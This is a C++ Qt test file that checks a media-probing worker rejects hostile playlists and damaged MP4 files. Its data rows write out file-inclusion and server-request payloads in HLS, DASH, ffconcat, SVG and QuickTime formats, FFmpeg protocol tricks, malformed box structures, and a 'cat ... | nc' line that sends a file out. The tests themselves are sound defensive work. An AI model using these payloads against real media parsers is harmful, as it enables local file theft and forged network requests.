#include "core/base/unique_fd.h"
#include "core/worker/worker_exit.h"
#include "core/worker/worker_pool.h"

#include <QFile>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <unistd.h>

using namespace vidimus;
using namespace vidimus::worker;
using namespace Qt::StringLiterals;

/// Files that mean harm: those that name other files or servers (promise R13), and damaged ones.
class TestHostileFiles : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void namesOfOthersAreNotFollowed_data();
    void namesOfOthersAreNotFollowed();
    void damagedFilesGiveMessages_data();
    void damagedFilesGiveMessages();
    void survivesFlippedBytes();

private:
    [[nodiscard]] bool canaryWasTouched() const;
    [[nodiscard]] bool somebodyConnected() const;

    QTemporaryDir m_folder;
    QString m_canary;
    UniqueFd m_watch;
    UniqueFd m_listener;
    quint16 m_port = 0;
    WorkerPool m_pool {
        {.executable = QStringLiteral(VIDIMUS_BIN_DIR "/vidimus-mediaworker"), .allowBubblewrap = false}};
};

namespace {

QByteArray readMedia(const char* name)
{
    QFile file(QStringLiteral(VIDIMUS_SOURCE_DIR "/tests/media/") + QLatin1StringView(name));
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

/// A box of ISO/IEC 14496-12.
QByteArray box(const char* type, const QByteArray& content)
{
    const auto size = static_cast<quint32>(content.size() + 8);
    const char length[] = {char(size >> 24), char(size >> 16), char(size >> 8), char(size)};
    return QByteArray(length, 4) + type + content;
}

} // namespace

void TestHostileFiles::initTestCase()
{
    m_canary = m_folder.filePath(u"canary.mp4"_s);
    QFile canary(m_canary);
    QVERIFY(canary.open(QIODevice::WriteOnly));
    canary.write(readMedia("talking_head_mono.mp4"));
    canary.close();
    m_watch = UniqueFd(inotify_init1(IN_NONBLOCK | IN_CLOEXEC));
    QVERIFY(inotify_add_watch(m_watch.get(), QFile::encodeName(m_canary).constData(), IN_OPEN | IN_ACCESS) >= 0);

    m_listener = UniqueFd(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
    sockaddr_in address {};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof address;
    auto* generic = reinterpret_cast<sockaddr*>(&address);
    QCOMPARE(bind(m_listener.get(), generic, length), 0);
    QCOMPARE(listen(m_listener.get(), 4), 0);
    QCOMPARE(getsockname(m_listener.get(), generic, &length), 0);
    m_port = ntohs(address.sin_port);
}

bool TestHostileFiles::canaryWasTouched() const
{
    char event[4096];
    return read(m_watch.get(), event, sizeof event) > 0;
}

bool TestHostileFiles::somebodyConnected() const
{
    return UniqueFd(accept(m_listener.get(), nullptr, nullptr)).isValid();
}

void TestHostileFiles::namesOfOthersAreNotFollowed_data()
{
    QTest::addColumn<QByteArray>("content"); // CANARY and SERVER are filled in
    const auto row = [](const char* name, const QByteArray& content) { QTest::newRow(name) << content; };
    for (const char* target : {"CANARY", "file:CANARY", "file://CANARY", "SERVER/a.ts", "concat:CANARY|CANARY",
             "subfile,,start,0,end,0,,:CANARY", "crypto:CANARY", "data:text/plain,x", "tcp://127.0.0.1:PORT"}) {
        const QByteArray name = target;
        row(("HLS media playlist: " + name).constData(),
            "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n" + name + "\n#EXT-X-ENDLIST\n");
        row(("HLS master playlist: " + name).constData(), "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n" + name + "\n");
        row(("ffconcat: " + name).constData(), "ffconcat version 1.0\nfile '" + name + "'\n");
        row(("DASH: " + name).constData(),
            "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" "
            "mediaPresentationDuration=\"PT10S\"><Period><AdaptationSet mimeType=\"video/mp4\"><Representation "
            "id=\"1\" "
            "bandwidth=\"1000\"><BaseURL>"
                + name + "</BaseURL></Representation></AdaptationSet></Period></MPD>");
    }
    row("HLS key",
        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-KEY:METHOD=AES-128,URI=\"CANARY\"\n#EXTINF:10,\nSERVER/a.ts\n");
    row("HLS map", "#EXTM3U\n#EXT-X-MAP:URI=\"CANARY\"\n#EXTINF:10,\nCANARY\n#EXT-X-ENDLIST\n");
    row("HLS behind a byte order mark", "\xef\xbb\xbf#EXTM3U\n#EXTINF:10,\nCANARY\n#EXT-X-ENDLIST\n");
    row("HLS behind blank lines", "\n\n \t#EXTM3U\n#EXTINF:10,\nCANARY\n#EXT-X-ENDLIST\n");
    row("XSPF",
        "<?xml version=\"1.0\"?><playlist version=\"1\"><trackList><track><location>file://CANARY</location>"
        "</track></trackList></playlist>");
    row("SDP",
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video PORT RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n");
    row("ASX", "<asx version=\"3.0\"><entry><ref href=\"SERVER/a\"/></entry></asx>");
    row("M3U without a head", "CANARY\n");
    row("PLS", "[playlist]\nFile1=CANARY\nNumberOfEntries=1\nVersion=2\n");
    row("SMIL", "<smil><body><video src=\"SERVER/a\"/></body></smil>");
    row("SVG with an image", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"SERVER/a.png\"/></svg>");
    row("QuickTime reference movie",
        box("ftyp", "qt  \0\0\0\0")
            + box("moov",
                box("rmra",
                    box("rmda",
                        box("rdrf",
                            QByteArray(4, '\0') + "url " + QByteArray("\0\0\0\x10", 4) + "SERVER/movie.mov")))));
    row("image pattern", "frame%03d.png\nCANARY\n");
    row("shell script", "#!/bin/sh\ncat CANARY | nc 127.0.0.1 PORT\n");
}

void TestHostileFiles::namesOfOthersAreNotFollowed()
{
    QFETCH(QByteArray, content);
    content.replace("CANARY", QFile::encodeName(m_canary));
    content.replace("SERVER", "http://127.0.0.1:" + QByteArray::number(m_port));
    content.replace("PORT", QByteArray::number(m_port));
    QFile file(m_folder.filePath(u"clip.mp4"_s));
    QVERIFY(file.open(QIODevice::ReadWrite | QIODevice::Truncate));
    file.write(content);
    file.flush();
    const auto facts = m_pool.probe(file.handle());
    QVERIFY2(!facts, "a file that names others was taken for media");
    QVERIFY2(!isWorkersFault(facts.error()), qPrintable(facts.error().detail));
    QVERIFY(!facts.error().reason.isEmpty());
    QVERIFY2(!canaryWasTouched(), "the canary was read");
    QVERIFY2(!somebodyConnected(), "a connection was made");
}

void TestHostileFiles::damagedFilesGiveMessages_data()
{
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QByteArray>("reason"); // empty: any
    const QByteArray clip = readMedia("talking_head_mono.mp4");
    QVERIFY(!clip.isEmpty());
    const QByteArray head = box("ftyp", QByteArray("isom\0\0\2\0isommp42", 16));
    QTest::newRow("empty") << QByteArray() << QByteArray("empty_file");
    QTest::newRow("one byte") << QByteArray("x") << QByteArray();
    QTest::newRow("zeros") << QByteArray(100'000, '\0') << QByteArray();
    QTest::newRow("media without its index") << head + box("mdat", clip.left(50'000)) << QByteArray("moov_missing");
    QTest::newRow("head only") << clip.left(32) << QByteArray("moov_missing");
    QTest::newRow("a box as long as can be")
        << QByteArray("\x7f\xff\xff\xffmoov", 8) + QByteArray(100, 'x') << QByteArray();
    QByteArray nested = "x";
    for (int depth = 0; depth < 2000; ++depth)
        nested = box("moov", nested);
    QTest::newRow("boxes in boxes") << head + nested << QByteArray();
}

void TestHostileFiles::damagedFilesGiveMessages()
{
    QFETCH(QByteArray, content);
    QFile file(m_folder.filePath(u"damaged"_s));
    QVERIFY(file.open(QIODevice::ReadWrite | QIODevice::Truncate));
    file.write(content);
    file.flush();
    const auto facts = m_pool.probe(file.handle());
    QVERIFY(!facts);
    QVERIFY2(!isWorkersFault(facts.error()), qPrintable(facts.error().detail));
    QVERIFY(!facts.error().detail.isEmpty());
    QVERIFY(!facts.error().reason.isEmpty());
    QFETCH(QByteArray, reason);
    if (!reason.isEmpty())
        QCOMPARE(facts.error().reason, reason);
}

void TestHostileFiles::survivesFlippedBytes()
{
    const quint32 seed = QRandomGenerator::system()->generate();
    qInfo("seed %u", seed);
    QRandomGenerator random(seed);
    const QByteArray clip = readMedia("talking_head_mono.mp4");
    for (int round = 0; round < 40; ++round) {
        QByteArray content = clip;
        for (int flip = 0; flip < 60; ++flip)
            content[random.bounded(content.size())] = static_cast<char>(random.bounded(256));
        QFile file(m_folder.filePath(u"flipped%1"_s.arg(round)));
        QVERIFY(file.open(QIODevice::ReadWrite | QIODevice::Truncate));
        file.write(content);
        file.flush();
        const auto facts = m_pool.probe(file.handle());
        // Either is right; a crash of the worker would be counted against the file.
        if (!facts)
            QVERIFY2(facts.error().reason != "file_parked", qPrintable(facts.error().detail));
    }
}

QTEST_GUILESS_MAIN(TestHostileFiles)
#include "tst_hostile_files.moc"
